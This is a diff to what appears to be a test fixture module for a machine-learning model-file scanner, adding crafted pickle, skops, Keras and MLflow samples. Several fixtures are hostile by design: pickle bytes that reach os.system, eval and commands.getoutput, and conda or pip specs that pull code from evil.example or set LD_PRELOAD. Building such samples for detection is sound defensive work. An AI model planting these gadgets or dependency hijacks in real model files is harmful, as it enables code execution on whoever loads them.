@@ -131,6 +131,12 @@ def json_node(value: object) -> dict[str, object]:
     return node("builtins", "str", "JsonNode", content=json.dumps(value), is_json=True)
 
 
+def sequence(kind: str, *items: object) -> dict[str, object]:
+    return node("builtins", kind, f"{kind.title()}Node", content=list(items))
+
+
+# An estimator without a state, on the stack.
+PIPELINE = b"\x80\x04" + name("sklearn.pipeline", "Pipeline") + b")\x81"
 _CODE = {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"x").decode()}}
 LAMBDA = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": _CODE}}
 
@@ -200,6 +206,10 @@ def files() -> dict[str, bytes]:
         "state.pkl": b"\x80\x04" + name("functools", "partial") + name("os", "system") + b"\x85R.",
         "class-changed.pkl": b"\x80\x04" + name("sklearn.pipeline", "Pipeline") + b"N}" + text("predict")
         + name("numpy", "abs") + b"s\x86b.",
+        # Attributes by a computed mapping for the slots, and by pairs, which a dictionary takes as well.
+        "slots.pkl": PIPELINE + b"N" + name("collections", "OrderedDict") + b"]" + text("predict")
+        + name("numpy", "max") + b"\x86a\x85R\x86b.",
+        "pairs.pkl": PIPELINE + b"(" + text("predict") + name("numpy", "max") + b"\x86lb.",
         "extension.pkl": b"\x80\x02\x82\x01(X\x04\x00\x00\x00truetR.",
         "python-2.pkl": b"c__builtin__\neval\n(S'1'\ntR.",
         "python-2-commands.pkl": b"ccommands\ngetoutput\n(S'true'\ntR.",
@@ -241,6 +251,15 @@ def files() -> dict[str, bytes]:
                                    content={"func": "tofile", "obj": node("numpy", "ndarray", "NdArrayNode")})),
         "partial.skops": skops(node("functools", "partial", "PartialNode", content={
             "func": node("os", "system", "FunctionNode"), "args": json_node(["true"])})),
+        # The node says that it belongs to a module of reviewed names; the method is one of what it holds.
+        "method-lies.skops": skops(node("numpy._core", "multiarray", "MethodNode",
+                                        content={"func": "scalar", "obj": node("numpy", "ndarray", "NdArrayNode")})),
+        "partial-roundabout.skops": skops(node("functools", "partial", "ConstructorFromReduceNode",
+                                               content=sequence("tuple", node("functools", "partial", "TypeNode")))),
+        "partial-object.skops": skops(node("functools", "partial", "PartialNode", content={
+            "func": node("sklearn.pipeline", "Pipeline", "ObjectNode"), "args": sequence("tuple")})),
+        "pairs.skops": skops(node("sklearn.pipeline", "Pipeline", "ObjectNode", content=sequence(
+            "list", sequence("tuple", json_node("transform"), node("numpy", "max", "FunctionNode"))))),
         "lambda.keras": keras({"module": "keras", "class_name": "Sequential", "config": {"layers": [LAMBDA]}}),
         "module.keras": keras({"module": "os", "class_name": "system", "config": {"command": "true"}}),
         "lambda.h5": b"\x89HDF\r\n\x1a\n" + bytes(64) + b"model_config" + json.dumps(LAMBDA).encode(),
@@ -305,6 +324,22 @@ def folders() -> dict[str, Callable[[Path], None]]:
         "mlflow-requirements": model(flavor(**sklearn), requirements_txt=b"--index-url http://evil.example\nnumpy\n"),
         "mlflow-requirement-url": model(flavor(**sklearn), requirements_txt=b"numpy @ https://evil.example/numpy.whl\n"),
         "mlflow-conda": model(flavor(**sklearn), conda_yaml=b"dependencies:\n- pip:\n  - git+https://evil.example/x\n"),
+        "mlflow-conda-merge": model(
+            flavor(**sklearn), conda_yaml=b"<<: {dependencies: [{pip: ['git+https://evil.example/x']}]}\n"
+        ),
+        "mlflow-conda-merge-inside": model(
+            flavor(**sklearn), conda_yaml=b"dependencies:\n- <<: {pip: ['git+https://evil.example/x']}\n"
+        ),
+        "mlflow-conda-channel": model(
+            flavor(**sklearn), conda_yaml=b"channels: ['https://evil.example/c']\ndependencies: [numpy]\n"
+        ),
+        "mlflow-conda-text": model(flavor(**sklearn), conda_yaml=b"dependencies:\n- pip: evil\n"),
+        "mlflow-conda-mapping": model(
+            flavor(**sklearn), conda_yaml=b"dependencies: {pip: ['git+https://evil.example/x']}\n"
+        ),
+        "mlflow-conda-variables": model(
+            flavor(**sklearn), conda_yaml=b"variables: {LD_PRELOAD: evil.so}\ndependencies: [numpy]\n"
+        ),
         "mlflow-broken": model("flavors: [", model_pkl=GOOD),
     }  # fmt: skip
 
